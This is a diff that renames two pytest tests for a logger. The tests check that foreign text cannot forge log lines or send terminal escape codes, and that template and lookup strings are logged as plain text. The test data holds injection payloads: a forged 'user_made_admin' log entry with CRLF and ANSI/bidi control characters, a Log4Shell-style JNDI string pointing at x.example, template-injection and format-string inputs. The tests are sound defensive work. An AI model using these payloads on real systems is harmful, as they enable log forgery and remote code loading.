@@ -115,14 +115,14 @@ FORGERY = 'x\r\n{"event": "user_made_admin"}\x1b[2K\x9b31m\u2028\u202etxt'
 
 @pytest.mark.parametrize("as_text", [False, True])
 @pytest.mark.parametrize("foreign", [False, True])
-def test_case_96_no_text_from_outside_begins_a_line_or_steers_a_terminal(say, as_text, foreign):
+def test_foreign_text_starts_no_log_line_and_sends_no_terminal_codes(say, as_text, foreign):
     said = say(FORGERY, as_text=as_text, foreign=True) if foreign else say("x", as_text=as_text, title=FORGERY)
     assert len(said.rstrip("\n").splitlines()) == 1
     body = said.replace("\x1b[0m", "").replace("\n", "")  # the renderer's own colours
     assert not any(sign in body for sign in ("\r", "\x9b", "\x1b[2K", "\u2028", "\u202e"))
 
 
-def test_case_98_strings_made_for_templates_and_lookups_are_plain_data(say):
+def test_template_and_lookup_strings_are_logged_as_plain_text(say):
     for text in ("${jndi:ldap://x.example/a}", "{{7*7}}", "%s%n%x", "{0.__class__}"):
         assert json.loads(say("x", title=text))["title"] == text
 
